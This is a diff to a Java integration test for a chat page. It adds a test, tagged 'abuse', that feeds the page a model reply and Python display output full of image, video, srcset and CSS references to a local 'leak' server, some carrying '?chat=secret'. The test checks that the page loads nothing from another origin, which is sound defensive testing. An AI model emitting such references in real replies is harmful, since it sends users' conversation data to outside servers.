@@ -14,6 +14,7 @@ import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -75,12 +76,17 @@ class ChatPageIT {
     }
 
     static void browse(String scenario, int port) throws IOException, InterruptedException {
+        browse(scenario, port, Map.of());
+    }
+
+    static void browse(String scenario, int port, Map<String, String> env) throws IOException, InterruptedException {
         Path dir = Path.of("src", "test", "browser");
         Path log = Files.createDirectories(Path.of("target", "it-logs")).resolve("browser-" + scenario + ".log");
         ProcessBuilder builder = new ProcessBuilder("node", "chat-page.mjs", scenario, "http://[::1]:" + port + "/")
                 .directory(dir.toFile()).redirectErrorStream(true).redirectOutput(log.toFile());
         // Screenshots of each scenario's last state, for a look at the page (target/it-logs/*.png).
         builder.environment().put("SCREENSHOT_DIR", log.getParent().toAbsolutePath().toString());
+        builder.environment().putAll(env);
         Process node = builder.start();
         if (!node.waitFor(120, TimeUnit.SECONDS)) {
             node.destroyForcibly();
@@ -136,6 +142,29 @@ class ChatPageIT {
                 pd.DataFrame({'city': ['Oslo', 'Lima'], 'temp': [3, 19]})
                 """), Reply.of("Here is the table."));
         browse("rich-output", appPort);
+    }
+
+    /** Images, styles and media pointing elsewhere, from the model's text and from the code's displays. */
+    @Test
+    @Tag("abuse")
+    void nothingOnThePageLoadsFromAnotherOrigin() throws Exception {
+        int leakPort = RedisServer.freePort();
+        String site = "http://127.0.0.1:" + leakPort;
+        model.enqueue(Reply.of("Here is a chart ![chart](" + site + "/markdown.png?chat=secret) and <img src=\"" + site
+                + "/raw.png?chat=secret\" alt=\"raw\"> <video src=\"" + site + "/video.mp4\"></video>"
+                + "<img srcset=\"" + site + "/srcset.png 2x\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"
+                + "<style>body{background:url(" + site + "/style.png)}</style>\n<execute>\n" + """
+                class Report:
+                    def _repr_html_(self):
+                        return ('<p>report</p><img src="SITE/display.png"><link rel="stylesheet" href="SITE/display.css">'
+                                '<div style="background:url(SITE/background.png)">x</div>')
+                class Notes:
+                    def _repr_markdown_(self):
+                        return '![notes](SITE/display.png?from=markdown)'
+                display(Report())
+                display(Notes())
+                """.replace("SITE", site)).chunk(4), Reply.of("Done ![again](" + site + "/answer.png)"));
+        browse("no-leaks", appPort, Map.of("LEAK_PORT", Integer.toString(leakPort)));
     }
 
     @Test
